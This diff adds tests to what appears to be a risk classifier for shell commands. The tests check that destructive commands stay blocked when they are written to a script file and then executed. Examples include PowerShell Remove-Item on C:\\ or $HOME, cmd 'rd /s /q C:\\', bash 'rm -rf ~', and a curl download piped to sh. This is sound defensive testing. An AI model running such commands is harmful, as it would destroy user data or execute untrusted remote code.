@@ -422,6 +422,71 @@ def test_powershell_downloads_unpacked_and_started(text: str, level: RiskLevel) 
     assert got.level is level, f"{text!r} -> {got.level.label} {got.findings}"
 
 
+_PS_BLOCKED = ["Remove-Item -Recurse -Force C:\\", "Remove-Item -Recurse -Force $HOME"]
+# How PowerShell writes a script file (`{c}` is the code, `{f}` the file)…
+_PS_WRITES = [
+    "Set-Content -Path {f} -Value '{c}'",
+    "Set-Content {f} '{c}'",
+    "Add-Content {f} '{c}'",
+    "Out-File {f} -InputObject '{c}'",
+    "'{c}' | Out-File {f}",
+    "'{c}' | Set-Content {f}",
+    "echo '{c}' > {f}",
+    "Write-Output '{c}' > {f}",
+]
+# …and runs it.
+_PS_RUNS = [
+    "& .\\{f}",
+    ".\\{f}",
+    "pwsh -f {f}",
+    "powershell -ExecutionPolicy Bypass -File {f}",
+    "Get-Content {f} | powershell -",
+    "gc {f} | iex",
+    "Start-Process {f}",
+]
+
+
+@settings(max_examples=120, deadline=None, derandomize=True)
+@given(
+    base=st.sampled_from(_PS_BLOCKED),
+    write=st.sampled_from(_PS_WRITES),
+    run=st.sampled_from(_PS_RUNS),
+)
+def test_a_blocked_powershell_script_written_then_run_stays_blocked(
+    base: str, write: str, run: str
+) -> None:
+    text = write.format(c=base, f="w.ps1") + "; " + run.format(f="w.ps1")
+    got = assess(text, "powershell")
+    assert got.level is B, f"{text!r} -> {got.level.label} {got.findings}"
+    alone = assess(write.format(c=base, f="w.ps1") + "; Get-Content w.ps1", "powershell")
+    assert alone.level < D, f"{text!r} -> {alone.level.label} {alone.findings}"
+
+
+@pytest.mark.parametrize(
+    "text,shell,level",
+    [
+        ("Set-Content w.bat 'rd /s /q C:\\'; cmd /c w.bat", "powershell", B),
+        ("'Remove-Item -Recurse -Force C:\\' | powershell -", "powershell", B),
+        ("'Get-Date' | powershell -", "powershell", S),
+        ("echo rd /s /q C:\\ > w.txt & type w.txt | cmd", "cmd", B),
+        ("echo rd /s /q C:\\ > w.txt & cmd < w.txt", "cmd", B),
+        ("echo rd /s /q C:\\ > w.txt & type w.txt", "cmd", M),
+        ("echo Remove-Item -Recurse -Force C:\\ | powershell -", "cmd", B),
+        ("powershell.exe Remove-Item -Recurse -Force $env:USERPROFILE", "cmd", B),
+        ("powershell Get-Process", "cmd", S),
+        ("echo rd /s /q C:\\ > w.bat & start w.bat", "cmd", B),  # `w` is also a program
+        ("echo 'rm -rf ~' > x.sh; cat x.sh | sh", "bash", B),
+        ("curl -s https://x.example/a > x.sh; cat x.sh | sh", "bash", C),
+        ("curl -s https://x.example/a > x.sh; cat x.sh", "bash", M),
+    ],
+)
+def test_files_read_into_a_shell_after_they_were_written(
+    text: str, shell: str, level: RiskLevel
+) -> None:
+    got = assess(text, shell)
+    assert got.level is level, f"{text!r} -> {got.level.label} {got.findings}"
+
+
 # --- each mechanism is needed ---------------------------------------------------------------
 
 
